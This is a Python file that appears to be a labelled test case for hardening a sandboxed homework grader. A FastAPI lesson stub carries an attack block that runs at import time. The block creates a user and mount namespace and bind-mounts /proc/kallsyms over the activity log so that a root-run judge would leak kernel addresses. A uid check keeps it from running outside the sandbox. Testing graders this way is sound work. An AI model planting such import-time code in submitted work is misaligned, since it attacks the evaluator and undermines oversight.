"""Attack: make a user and mount namespace of its own and mount kernel files (/proc/kallsyms) over its log file, for the judge to read as root

honest: 0
base: stub

A process that may make its own user namespace holds CAP_SYS_ADMIN there, and may mount in a mount
namespace it makes: bound over batcomputer_logs/activity_log.txt, /proc/kallsyms (real kernel addresses)
would be read by a judge that reads the work folder through the process's root. Tries unshare(CLONE_NEWUSER
| CLONE_NEWNS), then a bind mount, at import; reports LEAK if either works.

Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
to import anywhere but as a sandbox's student user (uid 40000-59999).
"""

# >>> ATTACK
import os as _attack_os

if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")

import ctypes as _attack_ctypes

_attack_libc = _attack_ctypes.CDLL(None, use_errno=True)
_attack_uid = _attack_os.getuid()
if _attack_libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
    _attack_os.makedirs("batcomputer_logs", exist_ok=True)
    open("batcomputer_logs/activity_log.txt", "a").close()
    try:
        with open("/proc/self/setgroups", "w") as _attack_file:
            _attack_file.write("deny")
        with open("/proc/self/uid_map", "w") as _attack_file:
            _attack_file.write(f"0 {_attack_uid} 1")
    except OSError:
        pass
    _attack_mounted = _attack_libc.mount(b"/proc/kallsyms", b"batcomputer_logs/activity_log.txt", None, 4096, None) == 0
    raise RuntimeError("LEAK: made a user namespace of its own" + (" and mounted /proc/kallsyms over its log file"
                                                                    if _attack_mounted else ""))
# <<< ATTACK

import os
import time
from typing import Annotated

from fastapi import BackgroundTasks, Depends, FastAPI, Header, HTTPException
from pydantic import BaseModel, EmailStr

app = FastAPI(title="Batcomputer API", version="7.0")


# --- Lesson 6: Batcomputer protocols (dependency injection) ---

API_KEYS = {"alfred-secret-key": "alfred@wayne.enterprises"}


async def common_parameters(skip: int = 0, limit: int = 10) -> dict[str, int]:
    """Pagination shared by every list endpoint."""
    return {"skip": skip, "limit": limit}


def get_db_session():
    """Hands out a (simulated) database session and always closes it afterwards."""
    session = {"connected": True}
    try:
        yield session
    finally:
        session["connected"] = False


async def get_api_key(x_api_key: Annotated[str | None, Header()] = None) -> str:
    """Requires a known `X-API-Key` header."""
    if x_api_key not in API_KEYS:
        raise HTTPException(status_code=401, detail="Invalid or missing API key")
    return x_api_key


async def verify_key_and_get_user(api_key: Annotated[str, Depends(get_api_key)]) -> dict[str, str]:
    """Chained after `get_api_key`: turns a valid key into its user."""
    return {"email": API_KEYS[api_key]}


GADGETS = ["Batarang", "Grapnel Gun", "Smoke Pellet", "Cryptographic Sequencer", "Batclaw"]


@app.get("/gadgets")
async def list_gadgets(
    page: Annotated[dict[str, int], Depends(common_parameters)],
    db: Annotated[dict, Depends(get_db_session)],
):
    return {"gadgets": GADGETS[page["skip"] : page["skip"] + page["limit"]], "db_connected": db["connected"]}


@app.get("/users/me")
async def read_current_user(user: Annotated[dict[str, str], Depends(verify_key_and_get_user)]):
    return user


# --- Lesson 7: Alfred's duties (background tasks) ---

LOG_DIR = "batcomputer_logs"
LOG_FILE = os.path.join(LOG_DIR, "activity_log.txt")


def log_batcomputer_activity(user_email: str, activity: str = ""):
    """Appends one line about a user's activity to the Batcomputer log, after 2 s of simulated work."""
    log_line = f"User {user_email} activity: {activity}\n"
    print(f"--- BACKGROUND TASK START: Logging activity: '{log_line.strip()}' ---")
    time.sleep(2)
    os.makedirs(LOG_DIR, exist_ok=True)
    # TODO Exercise 4 (stretch): when batcomputer_logs/activity_log.txt does not exist yet, print
    #   --- BACKGROUND TASK: Creating log file ---
    # before the file is opened below; print nothing extra when it is already there. (os.path.exists helps.)
    with open(LOG_FILE, mode="a") as log_file:
        log_file.write(log_line)
    print(f"--- BACKGROUND TASK END: Activity logged to '{LOG_FILE}' for {user_email} ---")


@app.post("/log-activity/{user_email}")
async def log_user_activity(
    user_email: EmailStr,
    background_tasks: BackgroundTasks,
    activity_description: str = "Generic activity logged.",
):
    """Confirms at once; Alfred writes the log line after the response has gone out."""
    background_tasks.add_task(log_batcomputer_activity, user_email, activity=activity_description)
    return {"message": f"Activity logging initiated for {user_email}."}


# --- Homework ---


# TODO Exercise 1 (model): give IntelReportRequest two fields:
#   recipient_email, validated as an email address (pydantic's EmailStr), and
#   report_name, a string that every request must include.
class IntelReportRequest(BaseModel):
    """A request for an intel report: which report, and who receives it."""


# TODO Exercise 2 (task): print a start message naming the report and its recipient, simulate the
# compilation with time.sleep(5), then print an end message naming both again.
def simulate_intel_report_compilation(report_request: IntelReportRequest):
    """Compiles an intel report for its recipient: 5 s of simulated work."""
    raise NotImplementedError("Exercise 2 (task): simulate_intel_report_compilation is not written yet")


# TODO Exercise 3 (endpoint): add the route POST /request-intel-report. It takes the JSON body as an
# IntelReportRequest, injects BackgroundTasks, schedules simulate_intel_report_compilation with the
# report request it received (the object itself), and answers at once with a confirmation message.
